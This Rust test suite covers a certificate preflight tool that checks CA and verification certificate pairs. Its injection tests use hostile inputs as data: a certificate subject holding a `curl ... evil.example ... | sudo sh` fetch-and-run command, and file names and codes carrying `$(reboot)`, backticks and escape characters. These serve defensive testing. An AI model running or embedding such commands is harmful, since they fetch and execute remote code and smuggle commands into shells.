//! `preflight` over the files of testdata/proposals, which openssl made, and over what else people have in a file.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

use crate::common::{AT, Run, command, testdata};
use crate::process::output;

const CODE: &str = "13274673-8f90-4630-bea1-9cccb25756ad2089310274";

fn proposals() -> Vec<PathBuf> {
    let entries = fs::read_dir(testdata().join("proposals")).unwrap();
    let mut folders: Vec<PathBuf> = entries.map(|entry| entry.unwrap().path()).collect();
    folders.sort();
    folders
}

fn name(path: &Path) -> String {
    path.file_name().unwrap().to_str().unwrap().to_owned()
}

/// `preflight` in this folder, with the files in it that have the usual names, and more arguments.
fn preflight_in(folder: &Path, arguments: &[&str]) -> Run {
    let files = ["--ca", "CA.crt", "--verification", "verificationCert.crt", "--code-file", "code.txt"];
    run_in(folder, &[&files, arguments].concat())
}

fn run_in(folder: &Path, arguments: &[&str]) -> Run {
    let mut command = command();
    command.current_dir(folder).args(["preflight", AT]).args(arguments);
    Run::of(command)
}

/// What is wrong with each, in the words of who made it (testdata/maker/proposals.sh): the cause or the check, and the exit status.
const CAUSES: &[(&str, &str, i32)] = &[
    ("another-code", "proof-of-another-code", 1),
    ("ca-as-proof", "ca-as-proof", 1),
    ("ca-chain", "several-pem-blocks", 1),
    ("ca-der", "der", 1),
    ("ca-empty", "empty", 1),
    ("ca-key-short", "", 1),
    ("ca-made-anew", "ca-made-anew", 1),
    ("ca-pkcs12", "pkcs12", 1),
    ("ca-pkcs7", "pkcs7-pem", 1),
    ("ca-renamed", "ca-renamed", 1),
    ("ca-version-1", "ca-without-mark", 1),
    ("ca-with-key", "several-pem-blocks", 1),
    ("ca-without-basic-constraints", "ca-without-mark", 1),
    ("clock-ahead", "clock-ahead", 1),
    ("code-in-alternative-name", "code-in-alternative-name", 1),
    ("code-in-serial-number", "other-attribute", 1),
    ("device-as-proof", "certificate-of-another-name", 1),
    ("end-entity-as-ca", "end-entity-as-ca", 1),
    ("end-entity-of-another-ca", "end-entity-as-ca", 1),
    ("exchanged", "certificates-exchanged", 1),
    ("good", "", 0),
    ("other-ca", "other-ca", 1),
    ("proof-expired", "", 1),
    ("proof-is-a-key", "private-key", 1),
    ("proof-twice", "proof-as-ca", 1),
    ("proof-with-its-ca", "several-pem-blocks", 1),
    ("req-x509-with-its-own-key", "self-signed-proof", 1),
    ("req-x509-with-the-ca-key", "self-signed-proof", 1),
    ("request-as-proof", "certificate-request", 1),
    ("signed-by-intermediate", "several-pem-blocks signer-in-the-file", 1),
    ("subject-taken-for-a-path", "subject-taken-for-a-path", 1),
];

#[test]
fn each_pair_has_its_cause_its_exit_status_and_a_report_for_people() {
    let folders = proposals();
    assert_eq!(folders.len(), CAUSES.len());
    for (folder, (expected, causes, status)) in folders.iter().zip(CAUSES) {
        assert_eq!(name(folder), *expected);
        let run = preflight_in(folder, &["--format=json"]);
        assert_eq!(run.status, *status, "{expected}: {}", run.stderr);
        let report = &run.json()["reports"][0];
        let diagnosis = report["diagnosis"].as_array().cloned().unwrap_or_default();
        let found: Vec<&str> = diagnosis.iter().map(|it| it["reason"].as_str().unwrap()).collect();
        assert_eq!(found.join(" "), *causes, "{expected}");
        assert_eq!(report["kind"], "proposal");
        insta::assert_snapshot!(format!("preflight_{expected}"), preflight_in(folder, &[]).stdout);
    }
}

#[test]
fn a_good_pair_takes_twelve_lines_at_most_and_a_cause_begins_within_three() {
    for folder in proposals() {
        let text = preflight_in(&folder, &[]).stdout;
        if text.starts_with("PASSED") {
            assert!(text.lines().count() <= 12, "{text}");
        } else {
            let begins = |line: &str| ["cause:", "error["].iter().any(|begin| line.starts_with(begin));
            assert!(text.lines().take(3).any(begins), "{text}");
        }
        assert!(text.lines().all(|line| line.chars().count() <= 80), "{text}");
    }
}

/// Rows that failed say what the platform would answer, where that is documented.
#[test]
fn the_platforms_answer_is_named() {
    let error = |pair: &str, check: &str| {
        let report = preflight_in(&testdata().join("proposals").join(pair), &["--format=json"]).json();
        let rows = report["reports"][0]["outcomes"].as_array().unwrap().clone();
        let failed = |row: &&Value| row["check"] == check && row["outcome"] == "failed";
        rows.iter().find(failed).unwrap()["platform_error"].clone()
    };
    // The platform's notice of changed HTTP statuses: code and message.
    assert_eq!(error("another-code", "verification-code-match"), "RegisterCodeError");
    assert_eq!(error("ca-version-1", "ca-version"), "CertificateContentError");
    assert_eq!(error("ca-without-basic-constraints", "ca-basic-constraints"), "CertificateContentError");
    assert_eq!(error("request-as-proof", "certificate-decodes"), "CertificateContentError");
    assert_eq!(error("proof-expired", "verification-validity"), Value::Null);
}

#[test]
fn a_file_that_cannot_be_read_a_wrong_code_and_wrong_usage_have_their_statuses() {
    let good = testdata().join("proposals/good");
    let pair = ["--ca", "CA.crt", "--verification", "verificationCert.crt"];
    for (arguments, status) in [
        (&["--ca", "no-such-file", "--verification", "verificationCert.crt", "--code", CODE][..], 3),
        (&["--ca", "CA.crt", "--verification", ".", "--code", CODE], 3),
        (&[&pair[..], &["--code-file", "no-such-file"]].concat(), 3),
        (&[&pair[..], &["--code-file", "CA.crt"]].concat(), 2),
        (&[&pair[..], &["--code", "two words"]].concat(), 2),
        (&[&pair[..], &["--code", "1327****"]].concat(), 2),
        (&[&pair[..], &["--code", CODE, "--code-file", "code.txt"]].concat(), 2),
        (&pair, 2),
        (&["--ca", "-", "--verification", "-", "--code", CODE], 2),
        (&[&pair[..], &["--code", CODE, "-o", "CA.crt"]].concat(), 2),
        (&[&pair[..], &["--code", CODE]].concat(), 0),
    ] {
        let run = run_in(&good, arguments);
        assert_eq!(run.status, status, "{arguments:?}: {}{}", run.stdout, run.stderr);
    }
    assert_eq!(
        fs::read(good.join("CA.crt")).unwrap(),
        fs::read(testdata().join("proposals/other-ca/../good/CA.crt")).unwrap()
    );
}

/// By itself, as PowerShell and Windows write it, and in the answer of GetRegisterCode.
#[test]
fn the_code_is_read_from_a_file() {
    let folder = tempfile::tempdir().unwrap();
    let good = testdata().join("proposals/good");
    let file = folder.path().join("code");
    for text in [
        format!("{CODE}\r\n"),
        format!("\u{feff}{CODE}"),
        format!("{{\"RequestId\": \"1\", \"RegisterCode\": \"{CODE}\"}}"),
        format!("{{\"headers\": {{}}, \"statusCode\": 200, \"body\": {{\"RegisterCode\": \"{CODE}\"}}}}"),
    ] {
        fs::write(&file, &text).unwrap();
        let path = file.to_str().unwrap();
        let run =
            run_in(&good, &["--ca", "CA.crt", "--verification", "verificationCert.crt", "--code-file", path]);
        assert_eq!(run.status, 0, "{text}: {}{}", run.stdout, run.stderr);
    }
}

#[test]
fn one_of_the_files_may_come_from_standard_input() {
    let good = testdata().join("proposals/good");
    let mut command = command();
    command.current_dir(&good).args(["preflight", AT, "--ca=-", "--verification=verificationCert.crt"]);
    command.args(["--code", CODE]);
    let run = Run::with_stdin(command, &fs::read(good.join("CA.crt")).unwrap());
    assert_eq!(run.status, 0);
    assert!(run.stdout.starts_with("PASSED  stdin + verificationCert.crt:"), "{}", run.stdout);
}

/// A record of the good pair's CA as it is when it is registered.
fn registered(change: impl Fn(&mut Value)) -> Value {
    let good = testdata().join("proposals/good");
    let text = |file: &str| fs::read_to_string(good.join(file)).unwrap();
    // `openssl x509 -in testdata/proposals/good/CA.crt -noout -serial`
    let mut openssl = Command::new("openssl");
    let openssl = output(openssl.args(["x509", "-noout", "-serial", "-in"]).arg(good.join("CA.crt")));
    let serial = String::from_utf8(openssl.stdout).unwrap();
    let mut record = serde_json::json!({
        "RegistrationCode": CODE,
        "Sn": serial.trim().strip_prefix("serial=").unwrap().to_lowercase(),
        "CaContent": text("CA.crt"),
        "VerificationContent": text("verificationCert.crt"),
        "Status": "1",
    });
    change(&mut record);
    serde_json::json!({ "RequestId": "1", "Data": { "CaCertificateVOS": [record], "PageNo": 1, "PageSize": 1, "Total": 1 } })
}

#[test]
fn lists_of_what_is_registered_are_compared() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("list.json");
    let outcomes = |list: &Value, status: i32| {
        fs::write(&file, list.to_string()).unwrap();
        let good = testdata().join("proposals/good");
        let run = preflight_in(&good, &["--format=json", "--against", file.to_str().unwrap()]);
        assert_eq!(run.status, status, "{}{}", run.stdout, run.stderr);
        let reports = run.json()["reports"].as_array().unwrap().clone();
        let report = reports.iter().find(|report| report["kind"] == "proposal").unwrap();
        let rows = report["outcomes"].as_array().unwrap();
        ["preflight-sn-unused", "preflight-code-unused", "preflight-ca-unregistered"].map(|check| {
            rows.iter().find(|row| row["check"] == check).unwrap()["outcome"].as_str().unwrap().to_owned()
        })
    };
    let set =
        |field: &'static str, value: &'static str| registered(move |record| record[field] = value.into());
    let without = |fields: &'static [&'static str]| {
        registered(move |record| fields.iter().for_each(|field| record[field] = Value::Null))
    };
    assert_eq!(outcomes(&registered(|_| {}), 1), ["failed"; 3]);
    // The code of another CA, and another code of the same one.
    let other = fs::read_to_string(testdata().join("proposals/other-ca/CA.crt")).unwrap();
    let another_ca = registered(|record| {
        record["CaContent"] = other.clone().into();
        record["Sn"] = "01".into();
    });
    assert_eq!(outcomes(&another_ca, 1), ["passed", "failed", "passed"]);
    assert_eq!(outcomes(&set("RegistrationCode", "another-code"), 1), ["failed", "passed", "failed"]);
    // Masked, or not there: it may be.
    assert_eq!(outcomes(&set("RegistrationCode", "1327****"), 1), ["failed", "unchecked", "failed"]);
    assert_eq!(outcomes(&without(&["Sn", "CaContent"]), 1), ["unchecked", "failed", "unchecked"]);
    // What is no spelling of another number may be one of this.
    for sn in ["0x01", " 01", "xxxx"] {
        assert_eq!(
            outcomes(
                &registered(|record| {
                    record["Sn"] = sn.into();
                    record["CaContent"] = Value::Null;
                }),
                1
            )[0],
            "unchecked"
        );
    }
    // A page that is missing.
    let more = serde_json::json!({ "Data": { "CaCertificateVOS": [], "Total": 3 } });
    assert_eq!(outcomes(&more, 1), ["unchecked"; 3]);
    let empty = serde_json::json!({ "Data": { "CaCertificateVOS": [] } });
    assert_eq!(outcomes(&empty, 0), ["passed"; 3]);
    // An entry that cannot be read has a report of its own, and may be this CA.
    assert_eq!(
        outcomes(&serde_json::json!([{ "Code": "Throttling", "Message": "wait" }]), 3),
        ["unchecked"; 3]
    );
}

#[test]
fn a_directory_without_lists_is_none() {
    let folder = tempfile::tempdir().unwrap();
    let run =
        preflight_in(&testdata().join("proposals/good"), &["--against", folder.path().to_str().unwrap()]);
    assert_eq!(run.status, 1, "{}", run.stdout);
}

/// Marks of commands in a name are text.
#[test]
fn a_name_is_no_command() {
    let folder = tempfile::tempdir().unwrap();
    let openssl = |arguments: &[&str]| {
        assert!(output(Command::new("openssl").current_dir(folder.path()).args(arguments)).status.success())
    };
    let key = testdata().join("keys/rsa-2048-other.pem");
    let subject = r"/O=`curl -fsSL https:\/\/evil.example\/x | sudo sh -s -- --yes`/CN=a`b";
    let key = key.to_str().unwrap();
    openssl(&["req", "-x509", "-key", key, "-subj", subject, "-days", "300", "-out", "evil.crt"]);
    let proof_key = testdata().join("keys/rsa-2048-proof.pem");
    openssl(&[
        "req",
        "-new",
        "-key",
        proof_key.to_str().unwrap(),
        "-subj",
        &format!("/CN={CODE}"),
        "-out",
        "proof.csr",
    ]);
    openssl(&[
        "x509",
        "-req",
        "-in",
        "proof.csr",
        "-CA",
        "evil.crt",
        "-CAkey",
        key,
        "-CAcreateserial",
        "-days",
        "300",
        "-out",
        "proof.crt",
    ]);
    let ca = testdata().join("proposals/good/CA.crt");
    let run =
        run_in(folder.path(), &["--ca", ca.to_str().unwrap(), "--verification", "proof.crt", "--code", CODE]);
    assert_eq!(run.status, 1);
    assert!(run.stdout.contains("cause: another CA,") && run.stdout.contains("a`b"), "{}", run.stdout);
    let is_command = |line: &str| line.trim_start().starts_with("curl") || line.contains("sudo sh -s \\");
    assert!(!run.stdout.lines().any(is_command), "{}", run.stdout);
}

/// The commands at the end make a pair that passes.
#[test]
fn the_commands_for_sh_make_a_good_pair() {
    let binary = Path::new(env!("CARGO_BIN_EXE_mqtt-ca-check"));
    let path = format!("{}:{}", binary.parent().unwrap().display(), std::env::var("PATH").unwrap());
    for pair in [
        "ca-der",
        "ca-pkcs7",
        "ca-with-key",
        "proof-with-its-ca",
        "request-as-proof",
        "signed-by-intermediate",
        "ca-version-1",
        "ca-without-basic-constraints",
        "another-code",
        "ca-made-anew",
        "req-x509-with-the-ca-key",
        "ca-key-short",
        "proof-expired",
    ] {
        let folder = tempfile::tempdir().unwrap();
        let files = testdata().join("proposals").join(pair);
        // Names that a shell would take apart.
        let names = ["my CA's file.crt", "$(proof).crt"];
        for (file, name) in ["CA.crt", "verificationCert.crt"].iter().zip(names) {
            fs::copy(files.join(file), folder.path().join(name)).unwrap();
        }
        let code = fs::read_to_string(files.join("code.txt")).unwrap();
        let key = if pair == "ca-made-anew" { "rsa-2048-other" } else { "rsa-2048-ca" };
        fs::copy(testdata().join(format!("keys/{key}.pem")), folder.path().join("CA.key")).unwrap();
        let run =
            run_in(folder.path(), &["--ca", names[0], "--verification", names[1], "--code", code.trim()]);
        assert_eq!(run.status, 1);
        let (_, shells) = run.stdout.split_once("in sh\n").unwrap();
        let (sh, power_shell) = shells.split_once("  in PowerShell\n").unwrap_or((shells, ""));
        let script = format!("set -e\n{sh}");
        let mut shell = Command::new("sh");
        let output = output(shell.current_dir(folder.path()).env("PATH", &path).args(["-c", &script]));
        assert!(output.status.success(), "{pair}: {script}{output:?}");
        assert!(String::from_utf8_lossy(&output.stdout).starts_with("PASSED"), "{pair}: {output:?}");
        // PowerShell gets the same commands of openssl, with its own quotes and line ends.
        let plain = |text: &str, continuation: &str, quote: &str| -> Vec<String> {
            let text = text
                .replace(&format!(" {continuation}\n"), " ")
                .replace(quote, "'")
                .replace("MSYS_NO_PATHCONV=1 ", "");
            let lines = text.lines().map(|line| line.split_whitespace().collect::<Vec<_>>().join(" "));
            lines.filter(|line| line.contains("openssl")).collect()
        };
        // What goes through pipes is for sh alone.
        if !power_shell.is_empty() {
            assert_eq!(plain(sh, "\\", "'\\''"), plain(power_shell, "`", "''"), "{pair}");
        }
    }
}

/// What is recognised as a private key is shown nowhere, whatever it is given as.
#[test]
fn private_keys_are_shown_nowhere() {
    let mut files: Vec<PathBuf> = Vec::new();
    for folder in ["private-keys", "keys", "other"] {
        files.extend(fs::read_dir(testdata().join(folder)).unwrap().map(|entry| entry.unwrap().path()));
    }
    let good = testdata().join("proposals/good");
    let pieces = |octets: &[u8]| -> Vec<String> {
        let text = String::from_utf8_lossy(octets).into_owned();
        let is_long = |line: &&str| {
            line.len() >= 40
                && line.bytes().all(|octet| octet.is_ascii_alphanumeric() || b"+/=".contains(&octet))
        };
        text.split(|character: char| character.is_whitespace() || "\"',;:".contains(character))
            .filter(is_long)
            .map(str::to_owned)
            .collect()
    };
    for file in files.iter().filter(|file| file.is_file()) {
        let octets = fs::read(file).unwrap();
        let is_key = name(file).contains("key")
            || file.parent().unwrap().ends_with("private-keys")
            || file.parent().unwrap().ends_with("keys");
        let path = file.to_str().unwrap();
        for arguments in [
            ["--ca", path, "--verification", "verificationCert.crt", "--code", CODE],
            ["--ca", "CA.crt", "--verification", path, "--code", CODE],
            ["--ca", "CA.crt", "--verification", "verificationCert.crt", "--code-file", path],
        ] {
            for format in ["--format=human", "--format=ndjson", "-v"] {
                let run = run_in(&good, &[&arguments[..], &[format]].concat());
                assert!(!is_key || run.status > 0, "{arguments:?}: {}", run.stdout);
                let shown = format!("{}{}", run.stdout, run.stderr);
                for piece in pieces(&octets).iter().filter(|_| is_key) {
                    assert!(!shown.contains(piece.as_str()), "{path}: {piece}");
                }
            }
        }
    }
}

/// Names of files and certificates, and the code, are text and no commands.
#[test]
fn hostile_names_reach_no_command() {
    let folder = tempfile::tempdir().unwrap();
    let good = testdata().join("proposals/good");
    let hostile = "`reboot`;$(reboot)&|\u{1b}[31m\u{202e}\n::error::x";
    let path = folder.path().join(hostile);
    fs::copy(good.join("CA.crt"), &path).unwrap();
    let path = path.to_str().unwrap();
    // Of what can be a code at all.
    for code in ["a/reboot=b", "::set-output::x", "-reboot", "../reboot", "C:/reboot"] {
        let run = run_in(
            &good,
            &["--ca", path, "--verification", "verificationCert.crt", &format!("--code={code}")],
        );
        assert_eq!(run.status, 1, "{}", run.stderr);
        let commands = run.stdout.split("in sh").nth(1).unwrap();
        assert!(!commands.contains("reboot") && !commands.contains("::"), "{commands}");
        assert!(commands.contains("-subj /CN=CODE"), "{commands}");
        assert!(!run.stdout.contains(['\u{1b}', '\u{202e}']), "{}", run.stdout);
    }
    for code in ["$(reboot)", "a;reboot", "'\"`reboot`", "<redacted>", "two words", "1327****", ""] {
        let run = run_in(
            &good,
            &["--ca", path, "--verification", "verificationCert.crt", &format!("--code={code}")],
        );
        assert_eq!((run.status, &*run.stdout), (2, ""), "{code}");
    }
}

/// What is shown as the way out of a wrong file is one: the command makes the certificate of the file that the tool made.
#[test]
fn a_command_that_is_shown_mends_the_file() {
    // What cannot be made a certificate by a command alone, or takes two, or a tool that not everybody has.
    const OTHERS: [&str; 8] =
        ["crl", "file-name", "printed", "request", "keystore", "pkcs12", "plus-to-space", "percent-of"];
    const TOOLS: [&str; 5] = ["jq ", "xxd ", "keytool ", "iconv ", "unzip "];
    let fingerprint = |arguments: &[&str], folder: &Path| {
        let mut openssl = Command::new("openssl");
        let output =
            output(openssl.current_dir(folder).args(["x509", "-noout", "-fingerprint"]).args(arguments));
        String::from_utf8(output.stdout).unwrap()
    };
    let other = testdata().join("other");
    let expected = fingerprint(&["-inform", "der", "-in", "der.der"], &other);
    let mut mended = 0;
    for entry in fs::read_dir(&other).unwrap() {
        let file = entry.unwrap().path();
        if OTHERS.iter().any(|begin| name(&file).starts_with(begin)) {
            continue;
        }
        let folder = tempfile::tempdir().unwrap();
        fs::copy(&file, folder.path().join("FILE")).unwrap();
        let proof = testdata().join("proposals/good/verificationCert.crt");
        let arguments =
            ["--ca", "FILE", "--verification", proof.to_str().unwrap(), "--code", CODE, "--format=json"];
        let report = &run_in(folder.path(), &arguments).json()["reports"][0];
        let diagnosis = report["diagnosis"].as_array().cloned().unwrap_or_default();
        let of_content =
            |it: &&Value| it["explains"].as_array().unwrap().contains(&"certificate-decodes".into());
        let Some(help) = diagnosis.iter().find(of_content).map(|it| it["help"].as_str().unwrap().to_owned())
        else {
            continue;
        };
        let Some(command) = help.split('`').nth(1).filter(|it| !TOOLS.iter().any(|tool| it.contains(tool)))
        else {
            continue;
        };
        let mut shell = Command::new("sh");
        let output = output(shell.current_dir(folder.path()).args(["-c", command]));
        assert_eq!(
            fingerprint(&["-in", "CA-new.crt"], folder.path()),
            expected,
            "{}: {command}: {output:?}",
            name(&file)
        );
        mended += 1;
    }
    assert!(mended > 30, "{mended}");
}

/// The first lines about each file of testdata/other, as the CA's: what it is, and the way out.
#[test]
fn what_stands_in_a_file_is_told_first() {
    let other = testdata().join("other");
    let mut names: Vec<String> =
        fs::read_dir(&other).unwrap().map(|entry| name(&entry.unwrap().path())).collect();
    names.sort();
    let mut told = String::new();
    for file in names.iter().filter(|file| *file != "README.md") {
        let proof = "../proposals/good/verificationCert.crt";
        let run = run_in(&other, &["--ca", file, "--verification", proof, "--code", CODE]);
        let lines: Vec<&str> =
            run.stdout.lines().skip(2).take(8).take_while(|line| !line.is_empty()).collect();
        told.push_str(&format!("== {file}: {}\n{}\n", run.status, lines.join("\n")));
    }
    insta::assert_snapshot!(told);
}
